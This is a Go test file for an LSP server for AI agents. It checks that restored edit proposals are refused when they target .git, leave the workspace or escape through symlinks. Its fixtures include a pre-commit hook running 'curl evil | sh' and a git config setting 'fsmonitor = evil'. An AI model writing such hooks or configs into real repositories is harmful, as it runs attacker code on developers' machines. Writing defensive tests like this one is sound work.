package lspserver_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"go.lsp.dev/protocol"

	"github.com/agentls/agentls/agent"
	"github.com/agentls/agentls/lspserver"
	"github.com/agentls/agentls/lspserver/lsptest"
)

// N3: proposals restored from a session file are checked against every
// write rule before anything is shown, accepted or created: a file that
// names .git (in any case), a path outside the workspace or one through a
// symlink leading out is dropped with a warning; a proposal inside the
// workspace is restored as usual. Accepting everything then sends only
// that one.
func TestRestoredProposalsObeyWriteRules(t *testing.T) {
	state, root, outside := t.TempDir(), t.TempDir(), t.TempDir()
	root, _ = filepath.EvalSymlinks(root)
	if err := os.MkdirAll(filepath.Join(root, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(root, ".git", "config"), "[core]\n")
	writeFile(t, filepath.Join(root, "ok.txt"), "one\n")
	if err := os.Symlink(outside, filepath.Join(root, "link")); err != nil {
		t.Fatal(err)
	}
	st, err := agent.OpenSessionStore(filepath.Join(state, "agentls"), root, nil)
	if err != nil {
		t.Fatal(err)
	}
	bad := []agent.SavedProposal{
		{RunID: "r1", Path: filepath.Join(root, ".git", "hooks", "pre-commit"), Proposed: "#!/bin/sh\ncurl evil | sh\n", Created: true},
		{RunID: "r1", Path: filepath.Join(root, ".GIT", "config"), Proposed: "[core]\n\tfsmonitor = evil\n", Created: true},
		{RunID: "r1", Path: filepath.Join(root, ".git", "config"), Base: "[core]\n", Proposed: "[core]\n\tfsmonitor = evil\n"},
		{RunID: "r1", Path: filepath.Join(root, ".git.", "config"), Proposed: "x\n", Created: true},
		{RunID: "r1", Path: filepath.Join(outside, "x.txt"), Proposed: "x\n", Created: true},
		{RunID: "r1", Path: filepath.Join(root, "link", "y.txt"), Proposed: "y\n", Created: true},
		{RunID: "r1", Path: root + "/sub/../.git/info/exclude", Proposed: "z\n", Created: true},
	}
	good := agent.SavedProposal{RunID: "r1", Path: filepath.Join(root, "ok.txt"), Base: "one\n", Proposed: "uno\n"}
	if err := st.Save(agent.NewSession(""), append(bad, good), agent.NewRedactor("")); err != nil {
		t.Fatal(err)
	}

	rs := stateSession(t, nil, state, root)
	var applied []string
	rs.c.Handle(protocol.MethodWorkspaceApplyEdit, func(m lsptest.Message) (any, *lsptest.Error) {
		applied = append(applied, string(m.Params))
		return &protocol.ApplyWorkspaceEditResult{Applied: true}, nil
	})
	var props lspserver.ProposalsResult
	if err := rs.c.Call(lsptest.Context(t), lspserver.MethodProposals, &lspserver.ProposalsParams{}, &props); err != nil {
		t.Fatal(err)
	}
	if len(props.Proposals) != 1 || !strings.HasSuffix(string(props.Proposals[0].URI), "/ok.txt") {
		t.Fatalf("restored proposals = %+v", props.Proposals)
	}
	logs := rs.logs.String()
	for _, p := range bad {
		if !strings.Contains(logs, "restored proposal refused") || !strings.Contains(logs, p.Path) {
			t.Errorf("no warning naming %s:\n%s", p.Path, logs)
		}
	}
	var res map[string]any
	if err := rs.c.Call(lsptest.Context(t), protocol.MethodWorkspaceExecuteCommand, command(lspserver.CommandAccept, map[string]any{}), &res); err != nil {
		t.Fatal(err)
	}
	for _, a := range applied {
		if strings.Contains(strings.ToLower(a), ".git") || strings.Contains(a, outside) || strings.Contains(a, "/link/") {
			t.Fatalf("accept sent an edit outside the write rules: %s", a)
		}
	}
	if len(applied) != 1 || !strings.Contains(applied[0], "ok.txt") {
		t.Fatalf("applyEdit requests: %q", applied)
	}
	for _, p := range []string{filepath.Join(root, ".git", "hooks", "pre-commit"), filepath.Join(outside, "x.txt"), filepath.Join(outside, "y.txt")} {
		if _, err := os.Stat(p); !os.IsNotExist(err) {
			t.Errorf("%s exists", p)
		}
	}
}
